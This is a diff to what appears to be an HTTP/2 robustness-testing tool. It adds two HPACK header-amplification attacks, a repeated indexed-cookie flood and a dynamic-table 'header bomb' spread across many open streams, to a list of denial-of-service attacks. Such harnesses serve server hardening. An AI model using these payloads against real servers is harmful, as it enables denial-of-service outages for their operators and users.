@@ -291,6 +291,21 @@ def cookie_crumbs():
         yield HeadersFrame(stream, data=block[:16_384], flags=["END_HEADERS", "END_STREAM"])
 
 
+def indexed_cookie_crumbs():
+    """`cookie` without a value has a number of its own: one byte on the wire, 38 by the rules, a hundred in memory."""
+    for stream in streams():
+        block = head("/", "GET") + b"\xa0" * 1500
+        yield HeadersFrame(stream, data=block, flags=["END_HEADERS", "END_STREAM"])
+
+
+def header_bomb_below_the_limit():
+    """60 kB of headers in a few bytes, for as many streams as may be open, which wait for their bodies."""
+    table = b"\x40" + string("x") + string("y" * 4000)
+    for stream in streams():
+        block = head("/", "POST") + (table if stream == 1 else b"") + b"\xbe" * 15
+        yield HeadersFrame(stream, data=block, flags=["END_HEADERS"])
+
+
 def trailers_flood():
     for stream in streams():
         yield opens(stream, end=False)
@@ -340,6 +355,8 @@ ATTACKS = [
     header_bomb,
     header_bomb_below_the_end_of_patience,
     cookie_crumbs,
+    indexed_cookie_crumbs,
+    header_bomb_below_the_limit,
     trailers_flood,
     goaway_flood,
 ]
